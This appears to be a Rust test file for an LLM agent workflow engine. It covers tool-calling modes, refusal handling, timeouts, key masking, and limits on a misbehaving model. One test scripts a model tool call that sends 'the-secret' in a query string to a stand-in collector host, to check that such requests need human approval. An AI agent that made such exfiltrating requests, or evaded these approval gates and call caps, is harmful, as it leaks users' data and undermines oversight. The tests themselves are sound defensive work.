        .replace("\nsteps:", "\n  budget: { max_llm_calls: 5 }\nsteps:");
        let (report, _) = run_agent(dir.path(), &yaml).await;
        assert_eq!(report.steps["answer"].status, StepStatus::Succeeded);

        let bodies = bodies(&server).await;
        assert_eq!(bodies.len(), 2);
        let notes = |body: &Json| -> Vec<String> {
            contents(body)
                .into_iter()
                .filter(|c| c.contains("[run status]"))
                .collect()
        };
        assert_eq!(
            notes(&bodies[0]),
            ["[run status] iteration 1 of 4; 0 tool calls so far; budget left: 5 LLM calls"]
        );
        assert_eq!(
            notes(&bodies[1]),
            ["[run status] iteration 2 of 4; 1 tool call so far; budget left: 4 LLM calls"],
            "one note, the current one, not the first one again"
        );
        for body in &bodies {
            assert_eq!(
                contents(body).last().map(String::as_str),
                notes(body).first().map(String::as_str),
                "the note comes last"
            );
        }
    }
}

mod tool_modes {
    //! `tool_mode: auto` (the default): native tool calling, text mode when the server refuses tools, and
    //! actions a model writes as text although it was offered native tools.

    use super::context::{bodies, completion, spec};
    use super::*;
    use serde_json::Value as Json;
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, Request, ResponseTemplate};

    async fn run(server: &MockServer) -> (RunReport, Vec<RunEvent>) {
        let dir = TempDir::new().expect("tempdir");
        let yaml = spec(
            server,
            "model: local-model",
            "goal: What is 20% of 50?, tools: [calculator], max_iterations: 4",
        );
        run_agent(dir.path(), &yaml).await
    }

    /// What llama.cpp without `--jinja`, Ollama with a model without a tool template, and vLLM without
    /// `--enable-auto-tool-choice` answer a request that offers tools (issue 14, item 4).
    fn refusals() -> Vec<(&'static str, u16, Json)> {
        vec![
            (
                "llama.cpp",
                500,
                json!({ "error": { "code": 500, "message": "tools param requires --jinja flag", "type": "server_error" } }),
            ),
            (
                "ollama",
                400,
                json!({ "error": { "message": "gemma:2b does not support tools", "type": "api_error", "param": null, "code": null } }),
            ),
            (
                "vllm",
                400,
                json!({
                    "object": "error",
                    "message": "\"auto\" tool choice requires --enable-auto-tool-choice and --tool-call-parser to be set",
                    "type": "BadRequestError",
                    "param": null,
                    "code": 400
                }),
            ),
        ]
    }

    #[tokio::test]
    async fn a_server_that_refuses_tools_gets_text_mode() {
        for (server_kind, status, refusal) in refusals() {
            let server = MockServer::start().await;
            Mock::given(method("POST"))
                .respond_with(move |request: &Request| {
                    let body: Json = serde_json::from_slice(&request.body).unwrap_or_default();
                    if body.get("tools").is_some() {
                        return ResponseTemplate::new(status).set_body_json(refusal.clone());
                    }
                    let observed = body
                        .to_string()
                        .contains("Observation: <tool_output>\\n10\\n</tool_output>");
                    completion(json!({ "role": "assistant", "content": if observed {
                        "Final Answer: 10"
                    } else {
                        "Thought: I should compute.\nAction: {\"tool\": \"calculator\", \"arguments\": {\"expression\": \"50 * 20 / 100\"}}"
                    } }))
                })
                .mount(&server)
                .await;
            let (report, events) = run(&server).await;
            let answer = &report.steps["answer"];
            assert_eq!(
                answer.status,
                StepStatus::Succeeded,
                "{server_kind}: {answer:?}"
            );
            assert_eq!(answer.output, json!("10"), "{server_kind}");
            assert!(
                events.iter().any(|e| matches!(
                    e,
                    RunEvent::AgentObservation { text, .. } if text.contains("continuing in text mode")
                )),
                "{server_kind}"
            );
            let sent = bodies(&server).await;
            assert_eq!(
                sent.len(),
                3,
                "{server_kind}: one refused request, not retried, then two in text mode"
            );
            assert!(sent[1].get("tools").is_none(), "{server_kind}");
            let system = sent[1]["messages"][0]["content"]
                .as_str()
                .unwrap_or_default();
            assert!(
                system.contains("Action:"),
                "{server_kind}: the tools are described in the prompt: {system}"
            );
        }
    }

    /// A 400 about a tool's schema is the spec's problem, not a server without tools: no text mode.
    #[tokio::test]
    async fn a_refused_tool_schema_is_not_taken_for_a_server_without_tools() {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .respond_with(ResponseTemplate::new(400).set_body_json(json!({
                "error": {
                    "message": "Invalid schema for function 'calculator': 'integer' is not valid under any of the given schemas.",
                    "type": "invalid_request_error",
                    "param": "tools[0].function.parameters",
                    "code": "invalid_function_parameters"
                }
            })))
            .mount(&server)
            .await;
        let (report, _) = run(&server).await;
        let answer = &report.steps["answer"];
        assert_eq!(answer.status, StepStatus::Failed);
        assert_eq!(
            answer.error.as_deref(),
            Some(
                "provider `local`: HTTP 400: Invalid schema for function 'calculator': 'integer' is not valid under any of the given schemas."
            )
        );
        assert_eq!(bodies(&server).await.len(), 1);
    }

    /// `output_schema` in text mode constrains the final answer only: no request carries an answer format
    /// (which would forbid the written actions), the model uses its tool, and its final answer is checked
    /// against the schema (issue 14, item 5).
    #[tokio::test]
    async fn an_output_schema_in_text_mode_leaves_the_model_free_to_act() {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .respond_with(|request: &Request| {
                let body: Json = serde_json::from_slice(&request.body).unwrap_or_default();
                let observed = body.to_string().contains("Observation: <tool_output>");
                completion(json!({ "role": "assistant", "content": if observed {
                    "Thought: the tool said 10.\nFinal Answer: {\"value\": 10}"
                } else {
                    "Thought: I should compute.\nAction: {\"tool\": \"calculator\", \"arguments\": {\"expression\": \"50 * 20 / 100\"}}"
                } }))
            })
            .mount(&server)
            .await;
        let dir = TempDir::new().expect("tempdir");
        let yaml = spec(
            &server,
            "model: local-model, tool_mode: text",
            "goal: What is 20% of 50?, tools: [calculator], max_iterations: 4, output_schema: { type: object, properties: { value: { type: number } }, required: [value] }",
        );
        let (report, events) = run_agent(dir.path(), &yaml).await;
        let answer = &report.steps["answer"];
        assert_eq!(answer.status, StepStatus::Succeeded, "{answer:?}");
        assert_eq!(answer.output, json!({ "value": 10 }));
        assert!(events.iter().any(|e| matches!(
            e,
            RunEvent::AgentAction { tool, .. } if tool == "calculator"
        )));
        let sent = bodies(&server).await;
        assert_eq!(sent.len(), 2);
        assert!(
            sent.iter().all(|b| b.get("response_format").is_none()),
            "no answer format forces the final answer early: {sent:?}"
        );
    }

    #[tokio::test]
    async fn a_final_answer_that_mentions_an_action_stays_an_answer() {
        let server = MockServer::start().await;
        let answer = "Recommended Action: rotate the key.\nAffected record: {\"name\": \"calculator\", \"arguments\": {}}";
        Mock::given(method("POST"))
            .respond_with(move |_: &Request| {
                completion(json!({ "role": "assistant", "content": answer }))
            })
            .mount(&server)
            .await;
        let (report, _) = run(&server).await;
        assert_eq!(report.steps["answer"].output, json!(answer));
        assert_eq!(bodies(&server).await.len(), 1, "no tool was called");
    }

    #[tokio::test]
    async fn an_action_written_as_text_is_read_in_auto_mode() {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .respond_with(|request: &Request| {
                let body: Json = serde_json::from_slice(&request.body).unwrap_or_default();
                let observed = body["messages"]
                    .as_array()
                    .is_some_and(|m| m.iter().any(|m| m["role"] == "tool"));
                completion(json!({ "role": "assistant", "content": if observed {
                    "10"
                } else {
                    "<tool_call>{\"name\": \"calculator\", \"arguments\": {\"expression\": \"50 * 20 / 100\"}}</tool_call>"
                } }))
            })
            .mount(&server)
            .await;
        let (report, events) = run(&server).await;
        let answer = &report.steps["answer"];
        assert_eq!(answer.status, StepStatus::Succeeded, "{answer:?}");
        assert_eq!(answer.output, json!("10"));
        assert!(events.iter().any(|e| matches!(
            e,
            RunEvent::AgentAction { tool, .. } if tool == "calculator"
        )));
        let sent = bodies(&server).await;
        assert!(
            sent.iter().all(|b| b.get("tools").is_some()),
            "native all along"
        );
    }
}

/// Issue 13, item 14: a hostile model. Past 16 calls in one answer, the rest are answered without running;
/// arguments over 64 KiB are refused and not recorded; three turns in a row of nothing but invalid calls
/// end the step instead of using up its iterations.
#[tokio::test]
async fn a_hostile_model_is_capped_per_turn_and_stopped_after_invalid_turns() {
    let dir = TempDir::new().expect("tempdir");
    // Turn 1: 20 different calls (16 run). Turn 2: arguments of 70 KiB (invalid). Turns 3 and 4: distinct
    // unknown tools, never repeating, which the repeat guard would not catch: the third invalid turn in a
    // row ends the step.
    let many: Vec<String> = (0..20)
        .map(|i| format!("{{ name: calculator, arguments: {{ expression: \"{i} + 1\" }} }}"))
        .collect();
    let big = "9".repeat(70 * 1024);
    let turns = format!(
        "        - tool_calls: [{}]\n        - tool_calls: [{{ name: calculator, arguments: {{ expression: \"{big}\" }} }}]\n        - tool_calls: [{{ name: nope_a, arguments: {{}} }}]\n        - tool_calls: [{{ name: nope_b, arguments: {{}} }}]\n        - tool_calls: [{{ name: nope_c, arguments: {{}} }}]\n        - text: never reached",
        many.join(", ")
    );
    let step =
        "  - id: answer\n    goal: add things\n    tools: [calculator]\n    max_iterations: 10\n";
    let (report, events) = run_agent(dir.path(), &spec(&turns, step)).await;
    let answer = &report.steps["answer"];
    assert_eq!(
        (
            answer.status,
            answer.error.as_deref(),
            answer.llm.as_ref().map(|l| l.calls)
        ),
        (
            StepStatus::Stuck,
            Some(
                "the model made only invalid tool calls 3 turns in a row; the last problem: unknown tool `nope_b`; the tools are `calculator`"
            ),
            Some(4)
        )
    );
    let observations: Vec<(u32, bool, String)> = events
        .iter()
        .filter_map(|e| match e {
            RunEvent::AgentObservation {
                iteration,
                error,
                text,
                ..
            } => Some((*iteration, *error, text.clone())),
            _ => None,
        })
        .collect();
    let first: Vec<&(u32, bool, String)> = observations.iter().filter(|o| o.0 == 1).collect();
    assert_eq!(first.len(), 20);
    assert_eq!(first.iter().filter(|o| !o.1).count(), 16);
    assert_eq!(
        first[19].2,
        "this call was not made: an answer may make at most 16 tool calls, and this one made 20"
    );
    let second: Vec<&(u32, bool, String)> = observations.iter().filter(|o| o.0 == 2).collect();
    assert_eq!(
        second.iter().map(|o| o.2.as_str()).collect::<Vec<_>>(),
        [format!(
            "this call was not made: its arguments are {} bytes, more than the 64 KiB a tool call may carry",
            big.len() + 17
        )]
    );
    let recorded = events.iter().find_map(|e| match e {
        RunEvent::AgentAction {
            iteration: 2,
            arguments,
            ..
        } => Some(arguments.clone()),
        _ => None,
    });
    assert_eq!(
        recorded,
        Some(json!(format!(
            "[archon: {} bytes of arguments, not recorded]",
            big.len() + 17
        )))
    );
}

/// Issue 13, item 15: a checkpoint this version cannot read (written by an earlier version, or damaged)
/// is not silently dropped, which would run the tool calls it records again: the step fails saying so,
/// before asking the model anything.
#[tokio::test]
async fn a_checkpoint_this_version_cannot_read_fails_the_step_instead_of_repeating_calls() {
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - tool_calls: [{ name: calculator, arguments: { expression: \"1 + 1\" } }]\n        - text: \"2\"";
    std::fs::write(dir.path().join("agent.yaml"), spec(turns, CALCULATE)).expect("write");
    let validation = archon_engine::validate_file(&dir.path().join("agent.yaml"));
    let workflow = validation.workflow.expect("valid");
    let mut options = RunOptions::new(dir.path().to_path_buf(), "r-old");
    options.env = BTreeMap::new();
    // An agent checkpoint as an earlier version wrote it: no `messages`, a field renamed.
    options.checkpoints = Arc::new(std::sync::Mutex::new(std::collections::HashMap::from([(
        "answer".to_owned(),
        json!({ "iteration": 1, "conversation": [], "usage": {}, "seen_calls": {}, "schema_retries": 0 }),
    )])));
    let report = run::run(Arc::new(workflow), Map::new(), options)
        .await
        .expect("run starts");
    let answer = &report.steps["answer"];
    assert_eq!(
        (
            answer.status,
            answer.error.as_deref(),
            report.llm.as_ref().map(|l| l.calls)
        ),
        (
            StepStatus::Failed,
            Some(
                "the checkpoint of step `answer` cannot be read by this version of archon (missing field `calls`), and continuing without it would repeat the tool calls it records: `archon retry r-old --from answer` runs the step again from the start"
            ),
            None
        )
    );
}

/// Issue 13, item 8: a GET an LLM chooses can carry data out in its query string, so a request to a host
/// the spec does not name asks a person first; hosts the spec writes out (or lists in `network.allow`) do
/// not ask.
#[tokio::test]
async fn a_request_to_a_host_the_spec_does_not_name_asks_first() {
    let dir = TempDir::new().expect("tempdir");
    let turns = "        - tool_calls: [{ name: http, arguments: { url: \"https://collector.invalid/?q=the-secret\" } }]\n        - text: \"sent\"";
    let step = "  - id: answer\n    goal: look something up\n    tools: [http]\n";
    let (report, events) = run_agent(dir.path(), &spec(turns, step)).await;
    let reasons: Vec<&str> = events
        .iter()
        .filter_map(|e| match e {
            RunEvent::ApprovalRequested { reason, .. } => Some(reason.as_str()),
            _ => None,
        })
        .collect();
    assert_eq!(
        (report.steps["answer"].status, reasons),
        (
            StepStatus::WaitingApproval,
            vec![
                "a request an LLM chose to `collector.invalid`, a host the spec does not name, needs a person's approval"
            ]
        )
    );
    // The same request to a host the spec writes out runs (and fails: the name does not resolve).
    let named = spec(turns, step)
        + "  - { id: known, tool: http, with: { url: \"https://collector.invalid/status\" }, on_error: continue }\n";
    let (report, events) = run_agent(dir.path(), &named).await;
    assert_eq!(report.steps["answer"].status, StepStatus::Succeeded);
    assert!(
        !events
            .iter()
            .any(|e| matches!(e, RunEvent::ApprovalRequested { .. })),
        "{events:?}"
    );
}

/// A refusal is a failed step naming it, never an answer, from every provider: OpenAI's
/// `message.refusal` (sent with `finish_reason: stop`), Anthropic's `stop_reason: refusal`, Gemini's
/// `finishReason: SAFETY` (issue 14, item 8).
#[tokio::test]
async fn a_refusal_fails_the_step_with_what_the_model_said() {
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, ResponseTemplate};
    let filtered = "the model refused or the provider filtered the answer";
    let cases = [
        (
            "openai",
            "/v1",
            json!({
                "id": "chatcmpl-1",
                "object": "chat.completion",
                "model": "gpt-4o",
                "choices": [{
                    "index": 0,
                    "message": { "role": "assistant", "content": null, "refusal": "I can't help with that." },
                    "finish_reason": "stop"
                }],
                "usage": { "prompt_tokens": 20, "completion_tokens": 6, "total_tokens": 26 }
            }),
            format!("{filtered}: I can't help with that."),
        ),
        // A refusal that comes with a tool call: the call is not made.
        (
            "openai",
            "/v1",
            json!({
                "id": "chatcmpl-2",
                "object": "chat.completion",
                "model": "gpt-4o",
                "choices": [{
                    "index": 0,
                    "message": {
                        "role": "assistant",
                        "content": null,
                        "refusal": "I refuse",
                        "tool_calls": [{ "id": "call_1", "type": "function", "function": { "name": "calculator", "arguments": "{\"expression\": \"1 + 1\"}" } }]
                    },
                    "finish_reason": "tool_calls"
                }],
                "usage": { "prompt_tokens": 20, "completion_tokens": 6, "total_tokens": 26 }
            }),
            format!("{filtered}: I refuse"),
        ),
        (
            "anthropic",
            "",
            json!({
                "id": "msg_1",
                "type": "message",
                "role": "assistant",
                "model": "claude-sonnet-4-5",
                "content": [],
                "stop_reason": "refusal",
                "stop_sequence": null,
                "usage": { "input_tokens": 20, "output_tokens": 0 }
            }),
            filtered.to_owned(),
        ),
        (
            "gemini",
            "",
            json!({
                "candidates": [{
                    "index": 0,
                    "finishReason": "SAFETY",
                    "safetyRatings": [{ "category": "HARM_CATEGORY_DANGEROUS_CONTENT", "probability": "HIGH", "blocked": true }]
                }],
                "usageMetadata": { "promptTokenCount": 20, "totalTokenCount": 20 },
                "modelVersion": "gemini-2.5-flash"
            }),
            filtered.to_owned(),
        ),
    ];
    for (kind, suffix, body, error) in cases {
        let server = MockServer::start().await;
        Mock::given(method("POST"))
            .respond_with(ResponseTemplate::new(200).set_body_json(body))
            .mount(&server)
            .await;
        let dir = TempDir::new().expect("tempdir");
        let yaml = format!(
            "name: refusal\nllm:\n  providers:\n    p: {{ kind: {kind}, base_url: \"{}{suffix}\", model: m }}\nsteps:\n  - {{ id: answer, goal: Say something you should not, tools: [calculator] }}\n",
            server.uri()
        );
        let (report, events) = run_agent(dir.path(), &yaml).await;
        let answer = &report.steps["answer"];
        assert_eq!(answer.status, StepStatus::Failed, "{kind}");
        assert_eq!(answer.error.as_deref(), Some(error.as_str()), "{kind}");
        assert!(
            !events.iter().any(|e| matches!(
                e,
                RunEvent::AgentAnswer { .. } | RunEvent::AgentAction { .. }
            )),
            "{kind}: a refusal is not an answer, and no call is made"
        );
    }
}

/// `ARCHON_OPENAI_BASE_URL` and `ARCHON_OPENAI_MODEL` point a run at another server and model whatever the
/// spec's own `base_url` and `model` say, as the README tells users to run the bundled workflows against a
/// local server (issue 14, item 11).
#[tokio::test]
async fn the_environment_points_a_run_at_another_server_and_model() {
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer};
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(crate::support::chat_completion(
            json!({ "role": "assistant", "content": "fix" }),
        ))
        .mount(&server)
        .await;
    // Where the spec points: a port nobody listens on.
    let unused = std::net::TcpListener::bind("127.0.0.1:0")
        .and_then(|l| l.local_addr())
        .expect("a free port");
    let (_dir, output, _) = cli_run(
        format!(
            "name: classify\nllm:\n  providers:\n    local: {{ kind: openai, base_url: \"http://{unused}/v1\", model: qwen2.5-7b-instruct }}\nsteps:\n  - id: kind\n    goal: \"Classify this commit subject as feature, fix or chore: mend the parser\"\n    output_schema: {{ type: string, enum: [feature, fix, chore] }}\n"
        ),
        &[],
        vec![
            ("ARCHON_OPENAI_BASE_URL", format!("{}/v1", server.uri())),
            ("ARCHON_OPENAI_MODEL", "gemma-3-270m".to_owned()),
        ],
    )
    .await;
    assert_eq!(output.code, 0, "{}", output.stderr);
    let report: serde_json::Value = serde_json::from_str(&output.stdout).expect("a JSON report");
    assert_eq!(report["steps"]["kind"]["output"], "fix");
    let sent = server.received_requests().await.expect("recorded");
    assert_eq!(sent.len(), 1);
    let body: serde_json::Value = serde_json::from_slice(&sent[0].body).expect("JSON");
    assert_eq!(body["model"], "gemma-3-270m");
}

/// A request that times out is an event as it fails (with its duration and whether the provider tries
/// again) and counts as a call of the step, beside the retry that answered; the call's `llm_call` event is
/// stamped when its request started, not when it was recorded (issue 14, items 7 and 12).
#[tokio::test]
async fn a_timed_out_request_is_in_the_trail_and_counted_as_a_call() {
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::time::Duration;
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, Request};
    let server = MockServer::start().await;
    let served = AtomicUsize::new(0);
    Mock::given(method("POST"))
        .respond_with(move |_: &Request| {
            let answer =
                crate::support::chat_completion(json!({ "role": "assistant", "content": "done" }));
            if served.fetch_add(1, Ordering::SeqCst) == 0 {
                answer.set_delay(Duration::from_secs(10))
            } else {
                answer.set_delay(Duration::from_millis(400))
            }
        })
        .mount(&server)
        .await;
    let (_dir, run, shown) = cli_run(
        format!(
            "name: slow\nllm:\n  providers:\n    local: {{ kind: openai, base_url: \"{}/v1\", model: m, timeout: 2s }}\nsteps:\n  - {{ id: answer, goal: Say done }}\n",
            server.uri()
        ),
        &[],
        Vec::new(),
    )
    .await;
    assert_eq!(run.code, 0, "{}", run.stderr);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).expect("report");
    assert_eq!(report["steps"]["answer"]["output"], "done");
    assert_eq!(report["steps"]["answer"]["llm"]["calls"], 2);
    assert_eq!(report["steps"]["answer"]["llm"]["failed_calls"], 1);
    let shown: serde_json::Value = serde_json::from_str(&shown.stdout).expect("shown");
    let events = shown["events"].as_array().expect("events");
    let of = |kind: &str| {
        events
            .iter()
            .find(|e| e["event"] == kind)
            .unwrap_or_else(|| panic!("no `{kind}` event in {events:?}"))
    };
    let failed = of("llm_call_failed");
    assert_eq!(
        (
            &failed["step"],
            &failed["attempt"],
            &failed["retrying"],
            &failed["error"]
        ),
        (
            &json!("answer"),
            &json!(1),
            &json!(true),
            &json!("provider `local`: no answer within 2s: operation timed out")
        )
    );
    let took = failed["duration_ms"].as_u64().expect("duration");
    assert!((2000..10000).contains(&took), "{took} ms");
    let call = of("llm_call");
    let answered = call["duration_ms"].as_u64().expect("duration");
    assert!(
        // The answering request alone: with the failed one it would be over 2 s.
        (400..2000).contains(&answered),
        "the call's time is the answering request's, not the failed one's too: {answered} ms"
    );
    let finished = of("step_finished");
    let (started, ended) = (
        call["at_ms"].as_u64().expect("at_ms"),
        finished["at_ms"].as_u64().expect("at_ms"),
    );
    assert!(
        ended - started >= 400,
        "the call is stamped when its 400 ms request started: {started} vs the step's end {ended}"
    );
}

/// One oversized answer of the model (a 10 MB thought beside its tool call) no longer fails the step for
/// good: the conversation carries the model's own text on cut to 32 KiB, as it does tool results, so the
/// next prompt fits (issue 14, item 9).
#[tokio::test]
async fn an_oversized_thought_is_cut_when_sent_back() {
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, Request};
    let server = MockServer::start().await;
    let thought = "I am thinking very hard. ".repeat(420_000);
    Mock::given(method("POST"))
        .respond_with(move |request: &Request| {
            let body: serde_json::Value =
                serde_json::from_slice(&request.body).unwrap_or_default();
            let observed = body["messages"]
                .as_array()
                .is_some_and(|m| m.iter().any(|m| m["role"] == "tool"));
            crate::support::chat_completion(if observed {
                json!({ "role": "assistant", "content": "10" })
            } else {
                json!({
                    "role": "assistant",
                    "content": thought,
                    "tool_calls": [{
                        "id": "call_1",
                        "type": "function",
                        "function": { "name": "calculator", "arguments": "{\"expression\": \"50 * 20 / 100\"}" }
                    }]
                })
            })
        })
        .mount(&server)
        .await;
    let dir = TempDir::new().expect("tempdir");
    let yaml = format!(
        "name: big\nllm:\n  providers:\n    local: {{ kind: openai, base_url: \"{}/v1\", model: m, context_window: 128000 }}\nsteps:\n  - {{ id: answer, goal: What is 20% of 50?, tools: [calculator] }}\n",
        server.uri()
    );
    let (report, _) = run_agent(dir.path(), &yaml).await;
    let answer = &report.steps["answer"];
    assert_eq!(answer.status, StepStatus::Succeeded, "{answer:?}");
    assert_eq!(answer.output, json!("10"));
    let sent = server.received_requests().await.expect("recorded");
    assert_eq!(sent.len(), 2);
    let second: serde_json::Value = serde_json::from_slice(&sent[1].body).expect("JSON");
    let carried = second["messages"][2]["content"]
        .as_str()
        .expect("the thought");
    assert_eq!(
        carried.len(),
        32 * 1024
            + format!(
                "\n[archon: {} more bytes of this answer were cut]",
                10_500_000 - 32 * 1024
            )
            .len()
    );
    assert!(carried.ends_with("\n[archon: 10467232 more bytes of this answer were cut]"));

    // Through the CLI and its store: the 10 MB answer adds about the cut 32 KiB (in the checkpoint), not
    // tens of megabytes.
    let (cli, run, _) = cli_run(yaml, &[], Vec::new()).await;
    assert_eq!(run.code, 0, "{}", run.stderr);
    let files: Vec<std::path::PathBuf> = walk(cli.path())
        .into_iter()
        .filter(|p| p.file_name().is_some_and(|n| n != "spec.yaml"))
        .collect();
    assert!(
        files.iter().any(|p| p.ends_with(".archon/state.db")),
        "{files:?}"
    );
    let stored: u64 = files
        .iter()
        .map(|p| std::fs::metadata(p).map_or(0, |m| m.len()))
        .sum();
    assert!(stored < 2 * 1024 * 1024, "the store holds {stored} bytes");
}

/// Every file under `dir`.
fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut files = Vec::new();
    for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files.extend(walk(&path));
        } else {
            files.push(path);
        }
    }
    files
}

/// A step whose `timeout` ends it while a request waits for the model reports that request as a failed
/// call, in its usage and in the trail, instead of losing it (issue 14, item 7).
#[tokio::test]
async fn a_step_timed_out_during_a_model_call_counts_the_request() {
    use std::time::Duration;
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer};
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(
            crate::support::chat_completion(json!({ "role": "assistant", "content": "late" }))
                .set_delay(Duration::from_secs(10)),
        )
        .mount(&server)
        .await;
    let dir = TempDir::new().expect("tempdir");
    let yaml = format!(
        "name: hung\nllm:\n  providers:\n    local: {{ kind: openai, base_url: \"{}/v1\", model: m }}\nsteps:\n  - {{ id: answer, goal: Say done, timeout: 300ms }}\n",
        server.uri()
    );
    let (report, events) = run_agent(dir.path(), &yaml).await;
    let answer = &report.steps["answer"];
    assert_eq!(
        (answer.status, answer.error.as_deref()),
        (StepStatus::TimedOut, Some("timed out after 300ms"))
    );
    let usage = answer.llm.as_ref().expect("the step's usage");
    assert_eq!((usage.calls, usage.failed_calls), (1, 1));
    let stopped: Vec<(&str, bool)> = events
        .iter()
        .filter_map(|e| match e {
            RunEvent::LlmCallFailed {
                error, retrying, ..
            } => Some((error.as_str(), *retrying)),
            _ => None,
        })
        .collect();
    assert_eq!(
        stopped,
        [(
            "stopped while waiting for the model: the step timed out or the run was stopped",
            false
        )]
    );
}

/// A gateway that echoes the API key it was sent, in an answer, a model name or an encoded error, never puts
/// it in the report, the events, a cassette or the store: the run masks provider keys like its secrets.
#[tokio::test]
async fn an_echoed_api_key_is_masked_everywhere() {
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer};
    const KEY: &str = "sk-test-SECRET-123456";
    let server = MockServer::start().await;
    let mut answer = crate::support::chat_completion(
        json!({ "role": "assistant", "content": format!("your key is {KEY}") }),
    );
    answer = answer.set_body_json(json!({
        "id": "chatcmpl-1",
        "object": "chat.completion",
        "model": KEY,
        "choices": [{ "index": 0, "message": { "role": "assistant", "content": format!("your key is {KEY}") }, "finish_reason": "stop" }],
        "usage": { "prompt_tokens": 5, "completion_tokens": 5, "total_tokens": 10 }
    }));
    Mock::given(method("POST"))
        .respond_with(answer)
        .mount(&server)
        .await;
    let (dir, run, shown) = cli_run(
        format!(
            "name: echo\nllm:\n  providers:\n    gw: {{ kind: openai, base_url: \"{}/v1\", model: m, api_key_env: GW_KEY }}\nsteps:\n  - {{ id: a, goal: Say hi }}\n",
            server.uri()
        ),
        &["--record", "echo.cassette"],
        vec![("GW_KEY", KEY.to_owned())],
    )
    .await;
    assert_eq!(run.code, 0, "{}", run.stderr);
    let report: serde_json::Value = serde_json::from_str(&run.stdout).expect("report");
    assert_eq!(report["steps"]["a"]["output"], "your key is ***");
    let cassette = std::fs::read_to_string(dir.path().join("echo.cassette")).expect("cassette");
    for (what, text) in [
        ("report", run.stdout.as_str()),
        ("progress", run.stderr.as_str()),
        ("store", shown.stdout.as_str()),
        ("cassette", cassette.as_str()),
    ] {
        assert!(!text.contains(KEY), "the key reached the {what}: {text}");
    }
}

/// A step that times out while its provider waits between retries counts the requests that were sent,
/// and no more: the wait is not a request.
#[tokio::test]
async fn a_timeout_between_retries_counts_only_the_requests_sent() {
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, ResponseTemplate};
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        // The provider is asked to wait 2 s before trying again: the step's timeout falls in that wait.
        .respond_with(
            ResponseTemplate::new(503)
                .insert_header("retry-after", "2")
                .set_body_json(json!({ "error": { "message": "overloaded" } })),
        )
        .mount(&server)
        .await;
    let dir = TempDir::new().expect("tempdir");
    let yaml = format!(
        "name: busy\nllm:\n  providers:\n    local: {{ kind: openai, base_url: \"{}/v1\", model: m }}\nsteps:\n  - {{ id: answer, goal: Say done, timeout: 500ms }}\n",
        server.uri()
    );
    let (report, events) = run_agent(dir.path(), &yaml).await;
    let answer = &report.steps["answer"];
    assert_eq!(answer.status, StepStatus::TimedOut, "{answer:?}");
    let sent = server.received_requests().await.expect("recorded").len() as u64;
    assert_eq!(sent, 1);
    let usage = answer.llm.as_ref().expect("usage");
    let failed_events = events
        .iter()
        .filter(|e| matches!(e, RunEvent::LlmCallFailed { .. }))
        .count() as u64;
    assert_eq!(
        (usage.calls, usage.failed_calls, failed_events),
        (sent, sent, sent),
        "{events:?}"
    );
}

/// An answer cut at the token limit says which provider's limit and how large it is, and what the model
/// wrote before the cut is in the trail.
#[tokio::test]
async fn a_cut_off_answer_names_the_limit_and_keeps_its_text() {
    use wiremock::matchers::method;
    use wiremock::{Mock, MockServer, ResponseTemplate};
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .respond_with(ResponseTemplate::new(200).set_body_json(json!({
            "id": "chatcmpl-1",
            "object": "chat.completion",
            "model": "m",
            "choices": [{ "index": 0, "message": { "role": "assistant", "content": "Once upon a time" }, "finish_reason": "length" }],
            "usage": { "prompt_tokens": 5, "completion_tokens": 800, "total_tokens": 805 }
        })))
        .mount(&server)
        .await;
    let dir = TempDir::new().expect("tempdir");
    let yaml = format!(
        "name: long\nllm:\n  providers:\n    local: {{ kind: openai, base_url: \"{}/v1\", model: m, max_tokens: 800 }}\nsteps:\n  - {{ id: answer, goal: Tell a long story }}\n",
        server.uri()
    );
    let (report, events) = run_agent(dir.path(), &yaml).await;
    assert_eq!(
        report.steps["answer"].error.as_deref(),
        Some(
            "the answer was cut off at the token limit of `800` tokens: raise `max_tokens` of provider `local`"
        )
    );
    assert!(events.iter().any(|e| matches!(
        e,
        RunEvent::AgentThought { text, .. } if text == "Once upon a time"
    )));
}

/// A base URL from the environment that is not an http(s) URL is named, not sent.
#[tokio::test]
async fn a_bad_base_url_in_the_environment_is_named() {
    let report = cli_report(
        "name: bad\nllm:\n  providers:\n    local: { kind: openai, model: m }\nsteps:\n  - { id: a, goal: Say hi }\n",
        &[("ARCHON_OPENAI_BASE_URL", "notaurl")],
    )
    .await;
    assert_eq!(
        report["steps"]["a"]["error"],
        "`ARCHON_OPENAI_BASE_URL` is `notaurl`: it must be an http:// or https:// URL, such as `http://127.0.0.1:8080/v1`"
    );
}

/// An `auto` provider the environment points at a server of its own (a base URL, no key) must be told the
/// model: `gpt-4o-mini` would price and size a local model as that one.
#[tokio::test]
async fn an_auto_provider_at_a_local_server_needs_its_model_named() {
    let report = cli_report(
        "name: auto\nllm:\n  providers:\n    main: { kind: auto }\nsteps:\n  - { id: a, goal: Say hi }\n",
        &[("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")],
    )
    .await;
    assert_eq!(
        report["steps"]["a"]["error"],
        "provider `main` is `auto` and the environment points it at a server without naming its model: set `ARCHON_OPENAI_MODEL`"
    );
}

/// Runs `archon run spec.yaml --json ARGS` on `yaml` in a new directory, with `env` and no provider
/// settings of the test's own, off the async runtime; returns the directory, the run's output and what
/// `archon show RUN --json --events` prints.
async fn cli_run(
    yaml: String,
    args: &'static [&'static str],
    env: Vec<(&'static str, String)>,
) -> (TempDir, crate::support::Output, crate::support::Output) {
    let dir = TempDir::new().expect("tempdir");
